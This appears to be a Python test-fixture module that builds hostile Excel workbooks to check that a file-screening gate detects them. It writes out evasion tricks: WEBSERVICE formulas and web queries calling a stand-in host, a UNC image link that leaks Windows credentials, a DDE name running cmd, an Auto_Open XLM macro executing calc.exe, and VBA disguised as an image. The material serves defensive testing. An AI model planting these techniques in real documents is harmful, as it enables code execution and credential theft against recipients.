"""Generated files (nothing binary committed) that try to make the gate and Excel/openpyxl read different
workbooks (issue 10): formulas hidden from a byte scan, ambiguous packages, active content under other
names, formulas reaching outside anywhere, odd but legitimate formats. Each maker takes a valid filled
declaration ``base`` and writes ``out``; :data:`EXPECTED` says what the gate must answer."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Callable

from hostile_corpus import _where, cell_in, sheet_part

CT_XML = b'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
WS_CT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ELECTRICITY = "monthly[1].electricity_kwh.air"
WEB = b'WEBSERVICE("http://203.0.113.9/x")'


def _formula_cell(template: bytes, field_path: str = ELECTRICITY) -> Callable[[Path, Path], Path]:
    """The cell of ``field_path`` replaced by ``template % (ref, style)``."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, field_path, lambda ref, st: template % (ref.encode(), st))
    return make


def _ref_spelt(spell: Callable[[str], str]) -> Callable[[Path, Path], Path]:
    """A formula cell whose r attribute is spelt differently (openpyxl normalises it)."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, ELECTRICITY, lambda ref, st: b'<c r="%s"%s><f>%s</f><v>46000</v></c>'
                       % (spell(ref).encode(), st, WEB))
    return make


def _edit(edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None,
          method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path, Path], Path]:
    def make(base: Path, out: Path) -> Path:
        with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", method) as dst:
            for info in src.infolist():
                data = src.read(info)
                dst.writestr(info.filename, edits[info.filename](data) if info.filename in edits else data)
            for name, data in (extra or {}).items():
                dst.writestr(name, data)
        return out
    return make


def _add_ct(*entries: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Types>", b"".join(entries) + b"</Types>")


def _add_rel(*entries: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")


def second_workbook_part(base: Path, out: Path) -> Path:
    """A second workbook part declared in the content types (openpyxl would take whichever comes first)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml")
    return _edit({"[Content_Types].xml": _add_ct(b'<Override PartName="/xl/workbook2.xml" ContentType="%s"/>' % CT_XML)},
                 {"xl/workbook2.xml": wb})(base, out)


def duplicate_entry_case(base: Path, out: Path) -> Path:
    """Two zip entries whose names differ only in letter case (Excel treats them as one part)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml")
    return _edit({}, {"XL/Workbook.xml": wb})(base, out)


def duplicate_sheet_names(base: Path, out: Path) -> Path:
    """An extra sheet named like a template sheet but for letter case (the template has Latin-free names:
    the extra sheet and a renamed template sheet share a Latin name)."""
    sheet = '<sheet name="Data" sheetId="98" r:id="rIdA"/><sheet name="DATA" sheetId="99" r:id="rIdB"/>'
    body = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData/></worksheet>')
    return _edit({
        "xl/workbook.xml": lambda d: d.replace(b"</sheets>", sheet.encode() + b"</sheets>", 1),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdA" Type="{REL}worksheet" Target="/xl/worksheets/a.xml"/>',
                                               f'<Relationship Id="rIdB" Type="{REL}worksheet" Target="/xl/worksheets/b.xml"/>'),
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/worksheets/a.xml" ContentType="%s"/>' % WS_CT,
                                       b'<Override PartName="/xl/worksheets/b.xml" ContentType="%s"/>' % WS_CT),
    }, {"xl/worksheets/a.xml": body, "xl/worksheets/b.xml": body})(base, out)


def vba_renamed(base: Path, out: Path) -> Path:
    """A VBA project stored as an 'image', its content type written with a character reference."""
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/media/image9.png" '
                                       b'ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel('<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/'
                                               '2006/relationships/vbaProject" Target="media/image9.png"/>'),
    }, {"xl/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 64})(base, out)


def ole_unnamed(base: Path, out: Path) -> Path:
    """An OLE compound file under a neutral name and content type, referenced by nothing."""
    return _edit({}, {"xl/media/blob.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048})(base, out)


def external_link_elsewhere(base: Path, out: Path) -> Path:
    """An external link stored outside xl/externalLinks/, in other letter case."""
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships" r:id="rId1"/></externalLink>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId1" Type="{REL}externalLinkPath" Target="file:///C:/o.xlsx" '
            'TargetMode="External"/></Relationships>').encode()
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/Links/L1.xml" ContentType="application/'
                                       b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdL" Type="{REL}externalLink" Target="Links/L1.xml"/>'),
    }, {"xl/Links/L1.xml": link, "xl/Links/_rels/L1.xml.rels": rels})(base, out)


def web_query(base: Path, out: Path) -> Path:
    """A data connection refreshed on open (a web query)."""
    conn = (b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1">'
            b'<webPr url="http://203.0.113.9/q"/></connection></connections>')
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/c.xml" ContentType="application/'
                                       b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdC" Type="{REL}connections" Target="c.xml"/>'),
    }, {"xl/c.xml": conn})(base, out)


def _sheet_rels(base: Path, sheet: str, rel: str) -> Callable[[Path, Path], Path]:
    part = sheet_part(base, sheet)
    folder, name = part.rsplit("/", 1)
    rels_name = f"{folder}/_rels/{name}.rels"
    with zipfile.ZipFile(base) as zf:
        existing = zf.read(rels_name) if rels_name in zf.namelist() else None
    if existing is not None:
        return _edit({rels_name: _add_rel(rel)})
    body = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rel}</Relationships>').encode()
    return _edit({}, {rels_name: body})


def unc_picture(base: Path, out: Path) -> Path:
    """A picture linked to a UNC path (Windows sends the user's credentials to fetch it)."""
    sheet, _ = _where(base, ELECTRICITY)
    return _sheet_rels(base, sheet, f'<Relationship Id="rIdP" Type="{REL}image" '
                                    'Target="\\\\203.0.113.9\\share\\a.png" TargetMode="External"/>')(base, out)


def file_hyperlink(base: Path, out: Path) -> Path:
    """A hyperlink to a file on a share."""
    sheet, _ = _where(base, ELECTRICITY)
    return _sheet_rels(base, sheet, f'<Relationship Id="rIdH" Type="{REL}hyperlink" '
                                    'Target="file://203.0.113.9/share/run.exe" TargetMode="External"/>')(base, out)


def ole_package(base: Path, out: Path) -> Path:
    """An embedded OLE package attached to a sheet."""
    sheet, _ = _where(base, ELECTRICITY)
    rel = f'<Relationship Id="rIdO" Type="{REL}oleObject" Target="../embeddings/oleObject1.bin"/>'
    make_rel = _sheet_rels(base, sheet, rel)
    tmp = out.with_suffix(".tmp.xlsx")
    make_rel(base, tmp)
    _edit({"[Content_Types].xml": _add_ct(b'<Default Extension="bin" ContentType="application/'
                                          b'vnd.openxmlformats-officedocument.oleObject"/>')},
          {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 4096})(tmp, out)
    tmp.unlink()
    return out


def webservice_elsewhere(base: Path, out: Path) -> Path:
    """WEBSERVICE in a cell that is not an input cell (the instructions sheet's first cell)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml").decode()
    first = re.search(r'<sheet\b[^>]*name="([^"]+)"', wb).group(1)
    part = sheet_part(base, first)
    row = b'<row r="9000"><c r="Z9000" t="str"><f>' + WEB + b'</f><v>1</v></c></row>'
    return _edit({part: lambda d: d.replace(b"</sheetData>", row + b"</sheetData>", 1) if b"</sheetData>" in d
                  else d.replace(b"<sheetData/>", b"<sheetData>" + row + b"</sheetData>", 1)})(base, out)


def _with_name(workbook: bytes, name: bytes) -> bytes:
    """workbook.xml with one more defined name (``name``: the whole element)."""
    if b"<definedNames>" in workbook:
        return workbook.replace(b"<definedNames>", b"<definedNames>" + name, 1)
    return workbook.replace(b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>", 1)


def dde_defined_name(base: Path, out: Path) -> Path:
    """A defined name holding a DDE link."""
    name = b"<definedName name=\"Leak\">cmd|' /C calc'!A0</definedName>"
    return _edit({"xl/workbook.xml": lambda d: _with_name(d, name)})(base, out)


def bzip2_member(base: Path, out: Path) -> Path:
    """Every member compressed with bzip2 (zipfile reads it; Excel cannot)."""
    return _edit({}, method=zipfile.ZIP_BZIP2)(base, out)


def opendocument(base: Path, out: Path) -> Path:
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("content.xml", "<office:document-content xmlns:office="
                                   "'urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>")
    return out


def strict_ooxml(base: Path, out: Path) -> Path:
    return _edit({"_rels/.rels": lambda d: d.replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")})(base, out)


def doctype_odd_name(base: Path, out: Path) -> Path:
    """A DOCTYPE in an XML part whose name does not end in .xml (classified by content type)."""
    return _edit({"[Content_Types].xml": _add_ct(b'<Override PartName="/customXml/item1.dat" ContentType="application/xml"/>')},
                 {"customXml/item1.dat": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})(base, out)


def case_only_target(base: Path, out: Path) -> Path:
    """A sheet relationship whose target matches its part only case-blind (Excel opens it, openpyxl not)."""
    with zipfile.ZipFile(base) as zf:
        rels = zf.read("xl/_rels/workbook.xml.rels")
    target = re.search(rb'Target="(/?xl/)?worksheets/(sheet\d+\.xml)"', rels)
    return _edit({"xl/_rels/workbook.xml.rels": lambda d: d.replace(target.group(0), target.group(0).replace(
        b"worksheets/", b"WorkSheets/"), 1)})(base, out)


# --- ActiveX, custom UI, Excel 4.0 macro sheets, dialog sheets, auto-run names (issue 10, item 3) ---------------
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XLM_BODY = ('<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
            '</sheetData></xm:macrosheet>').encode()


def _rels_part(*rels: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships">{"".join(rels)}</Relationships>').encode()


def activex_control(base: Path, out: Path) -> Path:
    """An ActiveX control on a sheet: its part under a neutral name, reached by the sheet's control
    relationship, with its binary persistence (an OLE compound file) under an image's name."""
    sheet, _ = _where(base, ELECTRICITY)
    tmp = out.with_suffix(".tmp.xlsx")
    _sheet_rels(base, sheet, f'<Relationship Id="rIdX" Type="{REL}control" Target="../parts/p1.xml"/>')(base, tmp)
    ocx = (f'<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
           f'xmlns:r="{R_NS}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006062C3}}" ax:persistence="persistStorage" '
           'r:id="rId1"/>').encode()
    _edit({"[Content_Types].xml": _add_ct(b'<Override PartName="/xl/parts/p1.xml" ContentType="application/'
                                          b'vnd.ms-office.activeX+xml"/>',
                                          b'<Override PartName="/xl/media/image7.png" ContentType="application/'
                                          b'vnd.ms-office.activeX"/>')},
          {"xl/parts/p1.xml": ocx,
           "xl/parts/_rels/p1.xml.rels": _rels_part(f'<Relationship Id="rId1" Type="{MS_REL}activeXControlBinary" '
                                                    'Target="../media/image7.png"/>'),
           "xl/media/image7.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024})(tmp, out)
    tmp.unlink()
    return out


def activex_by_content_type(base: Path, out: Path) -> Path:
    """An ActiveX control part that no relationship reaches, found by its content type alone (a Default
    for an odd extension)."""
    ocx = b'<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    return _edit({"[Content_Types].xml": _add_ct(b'<Default Extension="dat9" ContentType="application/'
                                                 b'vnd.ms-office.activeX+xml"/>')},
                 {"xl/misc/thing.dat9": ocx})(base, out)


def _custom_ui(rel_type: str, part: str) -> Callable[[Path, Path], Path]:
    """A custom ribbon whose buttons call macros, reached from the package root (Office 2007 / 2010 type)."""
    body = (b'<?xml version="1.0" encoding="UTF-8"?><customUI xmlns="http://schemas.microsoft.com/office/2006/01/'
            b'customui" onLoad="Ribbon_Load"><ribbon><tabs><tab id="t" label="x"><group id="g" label="g">'
            b'<button id="b" label="Run" onAction="Run_Macro"/></group></tab></tabs></ribbon></customUI>')
    return _edit({"_rels/.rels": _add_rel(f'<Relationship Id="rIdU" Type="{rel_type}" Target="{part}"/>')},
                 {part: body})


def _code_sheet(rel_type: str, content_type: bytes, part: str, body: bytes = XLM_BODY,
                auto_open: bool = True) -> Callable[[Path, Path], Path]:
    """A sheet of code added to the workbook: its relationship type and content type as given (the part's
    name says nothing); with ``auto_open`` a defined name that runs it when the workbook opens."""
    def make(base: Path, out: Path) -> Path:
        def workbook(d: bytes) -> bytes:
            d = d.replace(b"</sheets>", b'<sheet name="Macro1" sheetId="97" state="hidden" r:id="rIdM"/></sheets>', 1)
            return _with_name(d, b'<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>') if auto_open else d
        return _edit({
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdM" Type="{rel_type}" Target="{part}"/>'),
            "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/%s" ContentType="%s"/>'
                                           % (part.encode(), content_type)),
        }, {f"xl/{part}": body})(base, out)
    return make


def auto_open_name(base: Path, out: Path) -> Path:
    """A defined name that Excel runs on open (any name beginning Auto_Open, case-blind), no macro sheet."""
    name = b'<definedName name="AUTO_OPEN_report">\'\xe9\xa1\xb9\xe7\x9b\xae\xe4\xbf\xa1\xe6\x81\xaf\'!$A$1</definedName>'
    return _edit({"xl/workbook.xml": lambda d: _with_name(d, name)})(base, out)


XLM_CT = b"application/vnd.ms-excel.macrosheet+xml"
DIALOG_BODY = (b'<?xml version="1.0" encoding="UTF-8"?><dialogsheet xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main"><sheetData/></dialogsheet>')
#: the new classes: case → what the finding must name (English)
NAMES = {
    "activex.xlsx": "ActiveX", "activex-content-type.xlsx": "ActiveX",
    "customui.xlsx": "custom ribbon", "customui14.xlsx": "custom ribbon",
    "xlm-macrosheet.xlsx": "Auto_Open", "xlm-as-worksheet.xlsx": "xl/worksheets/sheet99.xml",
    "xlm-intl.xlsx": "xl/s/intl.xml", "dialogsheet.xlsx": "dialog sheet", "auto-open-name.xlsx": "AUTO_OPEN_report",
}


CASES: dict[str, Callable[[Path, Path], Path]] = {
    "formula-after-comment.xlsx": _formula_cell(b'<c r="%s"%s><!-- note --><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-after-pi.xlsx": _formula_cell(b'<c r="%s"%s><?pi data?><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-after-value.xlsx": _formula_cell(b'<c r="%s"%s><v>46000</v><f>' + WEB + b'</f></c>'),
    "formula-attr-gt.xlsx": _formula_cell(b'<c x="a&gt;b>" r="%s"%s><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-ref-lowercase.xlsx": _ref_spelt(str.lower),
    "formula-ref-leading-zero.xlsx": _ref_spelt(lambda r: re.sub(r"(\d+)", r"0\1", r)),
    "second-workbook-part.xlsx": second_workbook_part,
    "duplicate-entry-case.xlsx": duplicate_entry_case,
    "duplicate-sheet-names.xlsx": duplicate_sheet_names,
    "case-only-target.xlsx": case_only_target,
    "vba-renamed.xlsx": vba_renamed,
    "ole-unnamed.xlsx": ole_unnamed,
    "external-link-elsewhere.xlsx": external_link_elsewhere,
    "web-query.xlsx": web_query,
    "unc-picture.xlsx": unc_picture,
    "file-hyperlink.xlsx": file_hyperlink,
    "ole-package.xlsx": ole_package,
    "webservice-elsewhere.xlsx": webservice_elsewhere,
    "dde-defined-name.xlsx": dde_defined_name,
    "bzip2.xlsx": bzip2_member,
    "opendocument.xlsx": opendocument,
    "strict-ooxml.xlsx": strict_ooxml,
    "doctype-odd-name.xlsx": doctype_odd_name,
    "activex.xlsx": activex_control,
    "activex-content-type.xlsx": activex_by_content_type,
    "customui.xlsx": _custom_ui(f"{MS_REL}ui/extensibility", "docProps/ribbon.xml"),
    "customui14.xlsx": _custom_ui("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                                  "misc/x14.xml"),
    "xlm-macrosheet.xlsx": _code_sheet(f"{MS_REL}xlMacrosheet", XLM_CT, "macrosheets/sheet1.xml"),
    # a macro sheet declared a worksheet by its content type: its relationship still says what it is
    "xlm-as-worksheet.xlsx": _code_sheet(f"{MS_REL}xlMacrosheet", WS_CT, "worksheets/sheet99.xml", auto_open=False),
    # an international macro sheet declared by its content type only (the relationship says worksheet)
    "xlm-intl.xlsx": _code_sheet(f"{REL}worksheet", b"application/vnd.ms-excel.intlmacrosheet+xml", "s/intl.xml",
                                 auto_open=False),
    "dialogsheet.xlsx": _code_sheet(f"{REL}dialogsheet", b"application/vnd.openxmlformats-officedocument."
                                    b"spreadsheetml.dialogsheet+xml", "dialogsheets/d1.xml", DIALOG_BODY, False),
    "auto-open-name.xlsx": auto_open_name,
}

EXPECTED: dict[str, tuple[int, str]] = {
    "formula-after-comment.xlsx": (1, "workbook.formula_in_input"),
    "formula-after-pi.xlsx": (1, "workbook.formula_in_input"),
    "formula-after-value.xlsx": (1, "workbook.formula_in_input"),
    "formula-attr-gt.xlsx": (1, "workbook.formula_in_input"),
    "formula-ref-lowercase.xlsx": (1, "workbook.formula_in_input"),
    "formula-ref-leading-zero.xlsx": (1, "workbook.formula_in_input"),
    "second-workbook-part.xlsx": (2, "file.ambiguous_package"),
    "duplicate-entry-case.xlsx": (2, "file.ambiguous_package"),
    "duplicate-sheet-names.xlsx": (2, "file.ambiguous_package"),
    "case-only-target.xlsx": (2, "file.ambiguous_package"),
    "vba-renamed.xlsx": (1, "file.macro_code"),
    "ole-unnamed.xlsx": (1, "file.active_content"),
    "external-link-elsewhere.xlsx": (1, "file.external_links"),
    "web-query.xlsx": (1, "file.external_content"),
    "unc-picture.xlsx": (1, "file.external_content"),
    "file-hyperlink.xlsx": (1, "file.external_content"),
    "ole-package.xlsx": (1, "file.active_content"),
    "webservice-elsewhere.xlsx": (1, "workbook.formula_outside"),
    "dde-defined-name.xlsx": (1, "workbook.formula_outside"),
    "bzip2.xlsx": (2, "file.compression"),
    "opendocument.xlsx": (2, "file.opendocument"),
    "strict-ooxml.xlsx": (2, "file.strict_ooxml"),
    "doctype-odd-name.xlsx": (2, "file.xml_doctype"),
    "activex.xlsx": (1, "file.active_content"),
    "activex-content-type.xlsx": (1, "file.active_content"),
    "customui.xlsx": (1, "file.active_content"),
    "customui14.xlsx": (1, "file.active_content"),
    "xlm-macrosheet.xlsx": (1, "file.macro_code"),
    "xlm-as-worksheet.xlsx": (1, "file.macro_code"),
    "xlm-intl.xlsx": (1, "file.macro_code"),
    "dialogsheet.xlsx": (1, "file.active_content"),
    "auto-open-name.xlsx": (1, "file.macro_code"),
}


def build(base: Path, folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: make(base, folder / name) for name, make in CASES.items()}
